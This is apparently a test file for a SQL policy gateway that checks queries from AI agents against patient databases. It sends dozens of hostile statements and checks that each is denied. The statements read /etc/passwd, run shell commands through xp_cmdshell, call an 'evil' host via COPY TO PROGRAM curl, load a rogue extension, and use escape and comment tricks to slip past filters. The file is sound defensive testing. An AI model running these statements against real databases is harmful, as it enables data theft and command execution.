import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CheckClient } from '../../support/check-client.js';
import { TestWardgate } from '../../support/wardgate-instance.js';
import { dialectRoutes, hostileConfig, hostilePolicy, type RouteDialect } from './hostile-policy.js';

/**
 * Class 2 of issue 13: a statement classified as a read must not write, run code or read tables
 * it does not name. Each attack is sent to a running Wardgate as a hand-built CheckRequest on the
 * routes of the dialects that would run it, and on the default route (every dialect).
 */
interface Attack {
  name: string;
  sql: string;
  dialects: RouteDialect[];
  /** The reason in the denial body. */
  reason?: 'denied_by_policy' | 'unclassifiable_command';
}

const all: RouteDialect[] = ['postgres', 'mysql', 'tsql', 'sqlite'];

const attacks: Attack[] = [
  // Side-effect functions, in the spellings an attacker tries.
  { name: 'pg_sleep', sql: 'SELECT pg_sleep(10)', dialects: ['postgres'] },
  { name: 'quoted function name', sql: 'SELECT "pg_sleep"(10)', dialects: ['postgres'] },
  { name: 'schema-qualified', sql: 'SELECT pg_catalog.pg_sleep(10)', dialects: ['postgres'] },
  { name: 'quoted and qualified', sql: 'SELECT "pg_catalog"."pg_sleep"(10)', dialects: ['postgres'] },
  { name: 'upper case', sql: 'SELECT PG_SLEEP(10)', dialects: ['postgres'] },
  { name: 'comment between name and (', sql: 'SELECT pg_sleep/* pause */ (10)', dialects: ['postgres'] },
  { name: 'line comment and newline between name and (', sql: 'SELECT pg_sleep -- x\n(10)', dialects: ['postgres'] },
  { name: 'unicode-escaped identifier', sql: 'SELECT U&"pg\\005fsleep"(10)', dialects: ['postgres'] },
  { name: 'UESCAPE identifier', sql: "SELECT U&\"pg!005fsleep\" UESCAPE '!'(10)", dialects: ['postgres'], reason: 'unclassifiable_command' },
  { name: 'in a CTE', sql: 'WITH x AS (SELECT pg_read_file(\'/etc/passwd\') AS f) SELECT f FROM x', dialects: ['postgres'] },
  { name: 'in a subquery', sql: 'SELECT * FROM lab_codes WHERE id IN (SELECT lo_import(\'/etc/passwd\'))', dialects: ['postgres'] },
  { name: 'after UNION', sql: 'SELECT code FROM lab_codes UNION SELECT pg_read_binary_file(\'/etc/shadow\')::text', dialects: ['postgres'] },
  { name: 'in WHERE', sql: 'SELECT code FROM lab_codes WHERE 1 = 1 OR pg_sleep(5) IS NULL', dialects: ['postgres'] },
  { name: 'lo_export', sql: "SELECT lo_export(16400, '/tmp/x')", dialects: ['postgres'] },
  { name: 'set_config', sql: "SELECT set_config('role', 'postgres', false)", dialects: ['postgres'] },
  { name: 'pg_terminate_backend', sql: 'SELECT pg_terminate_backend(pid) FROM pg_stat_activity', dialects: ['postgres'] },
  { name: 'pg_cancel_backend', sql: 'SELECT pg_cancel_backend(1234)', dialects: ['postgres'] },
  { name: 'pg_reload_conf', sql: 'SELECT pg_reload_conf()', dialects: ['postgres'] },
  { name: 'setval', sql: "SELECT setval('patients_id_seq', 1)", dialects: ['postgres'] },
  { name: 'nextval', sql: "SELECT nextval('patients_id_seq')", dialects: ['postgres'] },
  { name: 'dblink (remote query in a string)', sql: "SELECT * FROM dblink('host=x', 'SELECT ssn FROM patients') AS t(ssn text)", dialects: ['postgres'], reason: 'unclassifiable_command' },
  { name: 'dblink_exec', sql: "SELECT dblink_exec('host=x', 'DROP TABLE patients')", dialects: ['postgres'], reason: 'unclassifiable_command' },
  { name: 'query_to_xml hides a PHI table in a string', sql: "SELECT query_to_xml('SELECT * FROM patients', true, true, '')", dialects: ['postgres'], reason: 'unclassifiable_command' },
  { name: 'nested dynamic SQL', sql: "SELECT query_to_xml('SELECT query_to_xml(''SELECT * FROM notes'', true, true, '''')', true, true, '')", dialects: ['postgres'], reason: 'unclassifiable_command' },
  { name: 'table_to_xml names a table in a string', sql: "SELECT table_to_xml('patients', true, true, '')", dialects: ['postgres'], reason: 'unclassifiable_command' },
  { name: 'EXECUTE a prepared statement', sql: 'EXECUTE hidden_statement', dialects: ['postgres', 'mysql'] },
  { name: 'PREPARE', sql: "PREPARE s FROM 'SELECT * FROM patients'", dialects: ['mysql'] },
  { name: 'DO block', sql: 'DO $$ BEGIN PERFORM pg_sleep(1); END $$', dialects: ['postgres'] },
  { name: 'COPY TO PROGRAM', sql: "COPY (SELECT 1) TO PROGRAM 'curl http://evil/'", dialects: ['postgres'] },
  { name: 'COPY FROM PROGRAM', sql: "COPY lab_codes FROM PROGRAM 'id'", dialects: ['postgres'] },
  // SELECT ... INTO writes.
  { name: 'SELECT INTO a new table', sql: 'SELECT code INTO stolen FROM lab_codes', dialects: ['postgres', 'tsql'] },
  { name: 'SELECT INTO TEMP', sql: 'SELECT code INTO TEMP TABLE stolen FROM lab_codes', dialects: ['postgres'] },
  { name: 'SELECT INTO OUTFILE', sql: "SELECT code FROM lab_codes INTO OUTFILE '/var/lib/mysql-files/x'", dialects: ['mysql'] },
  { name: 'SELECT INTO DUMPFILE', sql: "SELECT code INTO DUMPFILE '/tmp/x' FROM lab_codes", dialects: ['mysql'] },
  // MySQL.
  { name: 'SLEEP', sql: 'SELECT SLEEP(10)', dialects: ['mysql'] },
  { name: 'BENCHMARK', sql: "SELECT BENCHMARK(100000000, MD5('x'))", dialects: ['mysql'] },
  { name: 'LOAD_FILE', sql: "SELECT LOAD_FILE('/etc/passwd')", dialects: ['mysql'] },
  { name: 'sys_exec UDF', sql: "SELECT sys_exec('id')", dialects: ['mysql'] },
  { name: 'sys_eval in backticks', sql: "SELECT `sys_eval`('id')", dialects: ['mysql'] },
  { name: 'executable comment', sql: 'SELECT code FROM lab_codes /*!50000 WHERE SLEEP(5) */', dialects: ['mysql'] },
  { name: 'executable comment hiding a statement', sql: 'SELECT 1 /*! ; DROP TABLE lab_codes */', dialects: ['mysql'] },
  { name: 'LOAD DATA INFILE', sql: "LOAD DATA INFILE '/etc/passwd' INTO TABLE lab_codes", dialects: ['mysql'] },
  // T-SQL.
  { name: 'batch without ;', sql: 'SELECT 1 FROM lab_codes UPDATE lab_codes SET code = 1', dialects: ['tsql'] },
  { name: 'batch without ;, DELETE after IF', sql: 'SELECT 1 IF 1 = 1 DELETE FROM lab_codes', dialects: ['tsql'] },
  { name: 'batch without ;, across lines', sql: 'SELECT code FROM lab_codes\nDROP TABLE lab_codes', dialects: ['tsql'] },
  { name: 'xp_cmdshell', sql: "EXEC xp_cmdshell 'whoami'", dialects: ['tsql'] },
  { name: 'xp_cmdshell via master..', sql: "EXEC master..xp_cmdshell 'whoami'", dialects: ['tsql'] },
  { name: 'xp_cmdshell bracketed', sql: "EXEC [master].[sys].[xp_cmdshell] 'whoami'", dialects: ['tsql'] },
  { name: 'xp_cmdshell after a SELECT, no ;', sql: "SELECT 1 EXEC xp_cmdshell 'whoami'", dialects: ['tsql'] },
  { name: 'EXEC(string)', sql: "EXEC('SELECT * FROM patients')", dialects: ['tsql'], reason: 'unclassifiable_command' },
  { name: 'sp_executesql', sql: "EXEC sp_executesql N'SELECT * FROM patients'", dialects: ['tsql'], reason: 'unclassifiable_command' },
  { name: 'OPENROWSET', sql: "SELECT * FROM OPENROWSET('SQLNCLI', 'Server=x;Trusted_Connection=yes;', 'SELECT * FROM patients')", dialects: ['tsql'], reason: 'unclassifiable_command' },
  { name: 'OPENQUERY', sql: "SELECT * FROM OPENQUERY(linked, 'SELECT * FROM patients')", dialects: ['tsql'], reason: 'unclassifiable_command' },
  { name: 'OPENDATASOURCE', sql: "SELECT * FROM OPENDATASOURCE('SQLNCLI', 'Data Source=x').db.dbo.t", dialects: ['tsql'] },
  { name: 'four-part name (linked server)', sql: 'SELECT * FROM linked.warehouse.dbo.lab_codes', dialects: ['tsql'] },
  { name: 'WAITFOR', sql: "WAITFOR DELAY '00:00:10'", dialects: ['tsql'] },
  { name: 'WAITFOR after a SELECT', sql: "SELECT 1 WAITFOR DELAY '00:00:10'", dialects: ['tsql'] },
  { name: 'EXECUTE AS', sql: "EXECUTE AS LOGIN = 'sa'", dialects: ['tsql'] },
  { name: 'NEXT VALUE FOR', sql: 'SELECT NEXT VALUE FOR patient_seq', dialects: ['tsql'] },
  { name: 'COPY TO a server file', sql: "COPY lab_codes TO '/tmp/codes.csv'", dialects: ['postgres'] },
  { name: 'pg_advisory_lock', sql: 'SELECT pg_advisory_lock(1)', dialects: ['postgres'] },
  { name: 'pg_sleep_for', sql: "SELECT pg_sleep_for('5 minutes')", dialects: ['postgres'] },
  { name: 'GET_LOCK', sql: "SELECT GET_LOCK('x', 10)", dialects: ['mysql'] },
  { name: 'BULK INSERT', sql: "BULK INSERT lab_codes FROM 'C:\\x.csv'", dialects: ['tsql'] },
  { name: 'xp_dirtree', sql: "EXEC xp_dirtree '\\\\evil\\share'", dialects: ['tsql'] },
  { name: 'sp_configure', sql: "EXEC sp_configure 'xp_cmdshell', 1", dialects: ['tsql'] },
  { name: 'sp_OACreate', sql: "DECLARE @o INT EXEC sp_OACreate 'WScript.Shell', @o OUT", dialects: ['tsql'] },
  { name: 'EXEC (@sql)', sql: "DECLARE @s NVARCHAR(100) = 'SELECT * FROM patients' EXEC (@s)", dialects: ['tsql'], reason: 'unclassifiable_command' },
  { name: 'KILL', sql: 'KILL 53', dialects: ['tsql'] },
  { name: 'DBCC', sql: 'DBCC DROPCLEANBUFFERS', dialects: ['tsql'] },
  // SQLite.
  { name: 'readfile', sql: "SELECT readfile('/etc/passwd')", dialects: ['sqlite'] },
  { name: 'load_extension', sql: "SELECT load_extension('/tmp/evil.so')", dialects: ['sqlite'] },
  { name: 'writefile', sql: "SELECT writefile('/tmp/x', code) FROM lab_codes", dialects: ['sqlite'] },
  { name: 'ATTACH DATABASE', sql: "ATTACH DATABASE '/tmp/x.db' AS x", dialects: ['sqlite'] },
  // Unknown functions on a PHI route (strict masking): unclassifiable.
  { name: 'unknown function', sql: 'SELECT exfiltrate(code) FROM lab_codes', dialects: all, reason: 'unclassifiable_command' },
  { name: 'user schema shadowing a built-in', sql: 'SELECT evil.lower(code) FROM lab_codes', dialects: all, reason: 'unclassifiable_command' },
];

const benign: Array<{ name: string; sql: string; dialects: RouteDialect[] }> = [
  { name: 'plain select', sql: 'SELECT code, description FROM lab_codes WHERE id = 1', dialects: all },
  { name: 'built-ins', sql: 'SELECT count(*), lower(code), coalesce(a, b), max(id) FROM lab_codes GROUP BY code', dialects: all },
  { name: 'window function', sql: 'SELECT row_number() OVER (PARTITION BY code ORDER BY id) FROM lab_codes', dialects: ['postgres', 'mysql', 'tsql', 'sqlite'] },
  { name: 'casts', sql: 'SELECT CAST(id AS varchar(10)) FROM lab_codes', dialects: all },
  { name: 'postgres casts and date functions', sql: "SELECT id::numeric(10, 2), date_trunc('day', created), now() FROM lab_codes", dialects: ['postgres'] },
  { name: 'paging', sql: 'SELECT code FROM lab_codes ORDER BY code OFFSET 10 ROWS FETCH NEXT 5 ROWS ONLY', dialects: ['postgres', 'tsql'] },
  { name: 'columns named like keywords', sql: 'SELECT "begin", "end" FROM lab_codes', dialects: ['postgres', 'sqlite'] },
  { name: 'CTE and UNION', sql: 'WITH c AS (SELECT code FROM lab_codes) SELECT code FROM c UNION ALL SELECT code FROM icd10_codes', dialects: all },
];

describe('hostile agent, class 2: SQL that reads as SELECT but does more', () => {
  let wardgate: TestWardgate;
  let client: CheckClient;
  beforeAll(async () => {
    wardgate = await new TestWardgate({ policy: hostilePolicy, config: hostileConfig }).start();
    client = new CheckClient(wardgate.grpcPort);
  });
  afterAll(async () => {
    client.close();
    await wardgate.cleanup();
  });

  const sends = attacks.flatMap((a) => [...new Set([...a.dialects, 'any' as const])].map((dialect) => ({ ...a, dialect })));
  it.each(sends)('denies $name on the $dialect route', async ({ sql, dialect, reason }) => {
    const result = await client.check({ path: dialectRoutes[dialect], body: JSON.stringify({ sql }) });
    expect(result.allowed).toBe(false);
    expect(result.status).toBe(403);
    if (reason) expect(result.body?.reason).toBe(reason);
  });

  const reads = benign.flatMap((b) => [...new Set([...b.dialects, 'any' as const])].map((dialect) => ({ ...b, dialect })));
  it.each(reads)('allows the plain read "$name" on the $dialect route', async ({ sql, dialect }) => {
    const result = await client.check({ path: dialectRoutes[dialect], body: JSON.stringify({ sql }) });
    expect(result).toEqual({ allowed: true, status: 200, body: undefined });
  });

  it('still requires a grant for a PHI table read', async () => {
    const result = await client.check({ path: dialectRoutes.any, body: JSON.stringify({ sql: 'SELECT name FROM public.patients' }) });
    expect(result.body?.reason).toBe('grant_required');
  });

  it('records the functions in the audit as kinds, without PHI', async () => {
    await client.check({ path: dialectRoutes.postgres, body: JSON.stringify({ sql: "SELECT pg_sleep(1) FROM lab_codes WHERE name = 'Jennifer Smith'" }) });
    const events = await wardgate.auditEvents();
    const event = events.reverse().find((e) => JSON.stringify(e).includes('sql:sleep'));
    expect(event).toBeDefined();
    expect(JSON.stringify(event)).not.toContain('Jennifer Smith');
  });
});
